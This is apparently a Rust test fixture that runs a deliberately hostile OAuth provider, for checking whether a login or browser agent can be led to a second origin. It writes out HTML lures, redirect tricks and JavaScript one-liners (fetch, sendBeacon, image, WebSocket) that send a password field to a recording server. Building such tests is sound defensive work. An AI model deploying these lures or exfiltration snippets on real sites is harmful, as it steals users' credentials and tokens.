//! A provider that leads to a second origin, each time in another way, and the recorder that listens there.

use std::sync::{Arc, Mutex};

use serde_json::json;

use super::server::{Answer, Request, Server, answer};

pub const USERNAME: &str = "anna";
pub const PASSWORD: &str = "w0nder-land-password";
pub const SECRET: &str = "a-secret-of-the-client";
pub const CODE: &str = "a-code-of-the-provider";
pub const TOKEN: &str = "a-token-of-the-provider";

/// What the form agent and the browser agent are led away by.
pub const ON_PAGES: [(&str, &str); 18] = [
    (
        "form-action",
        "<form method=post action='{there}/in'>{fields}<button>Log in</button></form>",
    ),
    (
        "base",
        "<base href='{there}/'><form method=post action=in>{fields}<button>Log in</button></form>",
    ),
    (
        "formaction",
        "<form method=post action=/login>{fields}<button formaction='{there}/in'>Log in</button></form>",
    ),
    (
        "button-outside",
        "<form method=post action=/login id=f>{fields}</form><button form=f formaction='{there}/in'>Log in</button>",
    ),
    (
        "protocol-relative-action",
        "<form method=post action='//{host}/in'>{fields}<button>Log in</button></form>",
    ),
    (
        "backslashes",
        "<form method=post action='\\\\{host}\\in'>{fields}<button>Log in</button></form>",
    ),
    (
        "userinfo",
        "<form method=post action='http://127.0.0.1@{host}/in'>{fields}<button>Log in</button></form>",
    ),
    (
        "upper-case-scheme",
        "<form method=post action='HTTP://{host}/in'>{fields}<button>Log in</button></form>",
    ),
    (
        "tab-in-scheme",
        "<form method=post action='ht\ttp://{host}/in'>{fields}<button>Log in</button></form>",
    ),
    (
        "host-as-number",
        "<form method=post action='http://2130706434:{port}/in'>{fields}<button>Log in</button></form>",
    ),
    (
        "spaces-before",
        "<form method=post action='  {there}/in'>{fields}<button>Log in</button></form>",
    ),
    (
        "get-form",
        "<form action='{there}/in'>{fields}<button>Log in</button></form>",
    ),
    (
        "multipart",
        "<form method=post enctype=multipart/form-data action='{there}/in'>{fields}<button>Log in</button></form>",
    ),
    ("link", "<p>Welcome</p><a href='{there}/login'>Continue</a>"),
    (
        "meta-refresh",
        "<meta http-equiv=refresh content='0; url={there}/login'><p>One moment</p>",
    ),
    (
        "continue-form",
        "<form method=post action='{there}/in'><input type=hidden name=ticket value=1><button>Continue</button></form>",
    ),
    (
        "name-first",
        "<form method=post action='{there}/name'><input name=username autocomplete=username><button>Next</button></form>",
    ),
    (
        "image-button",
        "<form method=post action=/login>{fields}<input type=image alt='Log in' formaction='{there}/in'></form>",
    ),
];

/// Ways that need a script, for the browser agent alone.
pub const BY_SCRIPT: [(&str, &str); 12] = [
    ("location", "location = '{there}/?p=' + pass.value"),
    ("replace", "location.replace('{there}/?p=' + pass.value)"),
    (
        "fetch",
        "fetch('{there}/', { method: 'POST', mode: 'no-cors', body: pass.value })",
    ),
    (
        "xhr",
        "const x = new XMLHttpRequest(); x.open('POST', '{there}/'); x.send(pass.value)",
    ),
    ("beacon", "navigator.sendBeacon('{there}/', pass.value)"),
    ("picture", "new Image().src = '{there}/?p=' + pass.value"),
    (
        "frame",
        "const i = document.createElement('iframe'); i.src = '{there}/?p=' + pass.value; document.body.append(i)",
    ),
    ("window", "window.open('{there}/?p=' + pass.value)"),
    ("late-action", "form.action = '{there}/in'; return true"),
    ("late-submit", "form.action = '{there}/in'; form.submit()"),
    (
        "other-window",
        "form.target = '_blank'; form.action = '{there}/in'; return true",
    ),
    ("socket", "new WebSocket('ws://{host}/?p=' + pass.value)"),
];

/// What only answers can do.
pub const BY_ANSWER: [&str; 14] = [
    "authorize-redirect",
    "authorize-protocol-relative",
    "authorize-307",
    "refresh-header",
    "login-302",
    "login-303",
    "login-307",
    "login-308",
    "consent-form",
    "consent-307",
    "consent-link",
    "metadata-token-endpoint",
    "metadata-revocation-endpoint",
    "metadata-authorization-endpoint",
];

const FIELDS: &str = "<input name=username><input type=password name=password id=pass>";

/// What the recorder was sent.
pub type Records = Arc<Mutex<Vec<String>>>;

/// The second origin: it records everything, and answers like a provider.
pub fn recorder() -> (Server, Records) {
    let records = Records::default();
    let kept = Arc::clone(&records);
    let server = Server::start_at("127.0.0.2", move |request| {
        let text = String::from_utf8_lossy(&request.raw).into_owned();
        kept.lock().expect("no panic before").push(text);
        match request.path() {
            "/token" => answer(200, "application/json", &tokens()),
            _ => page(&format!(
                "<form method=post>{FIELDS}<button>Log in</button></form>"
            )),
        }
    });
    (server, records)
}

/// The provider that leads to the second origin in this way.
pub fn provider(way: &str, there: &str) -> Server {
    let (way, there) = (way.to_owned(), there.to_owned());
    Server::start(move |request| respond(&way, &there, request))
}

/// The answer of the provider that leads to the second origin in this way; any other word leads nowhere.
pub fn respond(way: &str, there: &str, request: &Request) -> Answer {
    let text = String::from_utf8_lossy(&request.raw);
    let body = text.split_once("\r\n\r\n").map_or("", |(_, body)| body);
    let query = request
        .target
        .split_once('?')
        .map_or("", |(_, query)| query);
    let host = there.trim_start_matches("http://");
    let fill = |html: &str| {
        html.replace("{fields}", FIELDS)
            .replace("{there}", there)
            .replace("{host}", host)
            .replace("{port}", host.rsplit(':').next().unwrap_or_default())
    };
    match request.path() {
        "/.well-known/oauth-authorization-server" if way.starts_with("metadata-") => {
            let here = format!("http://{}", request.host());
            let at = |name: &str, path: &str| {
                let foreign = way == format!("metadata-{}", name.replace('_', "-"));
                format!("{}{path}", if foreign { there } else { &here })
            };
            let json = json!({ "issuer": here, "response_types_supported": ["code"],
                "authorization_endpoint": at("authorization_endpoint", "/authorize"),
                "token_endpoint": at("token_endpoint", "/token"),
                "revocation_endpoint": at("revocation_endpoint", "/revoke") });
            answer(200, "application/json", &json.to_string())
        }
        "/authorize" => match way {
            "authorize-redirect" => redirect(302, &format!("{there}/login?{query}")),
            "authorize-307" => redirect(307, &format!("{there}/login?{query}")),
            "authorize-protocol-relative" => redirect(302, &format!("//{host}/login?{query}")),
            "refresh-header" => Answer::Bytes(
                format!("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nRefresh: 0; url={there}/login\r\nContent-Length: 0\r\nConnection: close\r\n\r\n").into_bytes(),
            ),
            _ => match BY_SCRIPT.iter().find(|(name, _)| *name == way) {
                Some((_, script)) => page(&fill(&format!(
                    "<form method=post action='/login?{query}' id=form>{{fields}}<button>Log in</button></form>
                    <script>const form = document.getElementById('form'), pass = document.getElementById('pass');
                    form.onsubmit = () => {{ {script}; return false; }};</script>"
                ))),
                None => match ON_PAGES.iter().find(|(name, _)| *name == way) {
                    Some((_, html)) => page(&fill(html)),
                    None => page(&fill(&format!(
                        "<form method=post action='/login?{query}'>{{fields}}<button>Log in</button></form>"
                    ))),
                },
            },
        },
        "/login" => match way {
            "login-302" | "login-303" | "login-307" | "login-308" => {
                redirect(way[6..].parse().expect("a status"), &format!("{there}/next?{query}"))
            }
            "consent-form" => page(&format!(
                "<p>acme wants to access your data</p><form method=post action='{there}/consent'><button name=a value=yes>Allow</button></form>"
            )),
            "consent-link" => page(&format!(
                "<p>acme wants to access your data</p><a href='{there}/yes'>Allow</a> <a href='{there}/no'>Deny</a>"
            )),
            "consent-307" => page(&format!(
                "<p>acme wants to access your data</p><form method=post action='/consent?{query}'><button name=a value=yes>Allow</button></form>"
            )),
            _ if body.contains(PASSWORD) => back(query),
            _ => page("<p>Wrong password</p>"),
        },
        "/consent" => redirect(307, &format!("{there}/consent")),
        "/token" if way == "token-302" => redirect(302, &format!("{there}/token")),
        "/token" if way == "token-307" => redirect(307, &format!("{there}/token")),
        "/token" if way == "token-308" => redirect(308, &format!("{there}/token")),
        "/token" => answer(200, "application/json", &tokens()),
        // Whatever else is asked with a token or a secret.
        "/revoke" | "/introspect" | "/resource" | "/par" | "/device" if way == "rest-307" => {
            redirect(307, &format!("{there}{}", request.path()))
        }
        _ => answer(404, "application/json", "{\"error\":\"invalid_request\"}"),
    }
}

fn tokens() -> String {
    json!({ "access_token": TOKEN, "token_type": "Bearer", "expires_in": 3600 }).to_string()
}

pub fn page(body: &str) -> Answer {
    let html = format!("<!doctype html><title>Log in</title><body>{body}</body>");
    answer(200, "text/html; charset=utf-8", &html)
}

pub fn redirect(status: u16, location: &str) -> Answer {
    Answer::Bytes(
        format!("HTTP/1.1 {status} There\r\nLocation: {location}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            .into_bytes(),
    )
}

/// Back to the client with a code.
pub fn back(query: &str) -> Answer {
    let parameter = |wanted: &str| {
        url::form_urlencoded::parse(query.as_bytes())
            .find(|(name, _)| name == wanted)
            .map(|(_, value)| value.into_owned())
            .unwrap_or_default()
    };
    let (uri, state) = (parameter("redirect_uri"), parameter("state"));
    redirect(303, &format!("{uri}?code={CODE}&state={state}"))
}
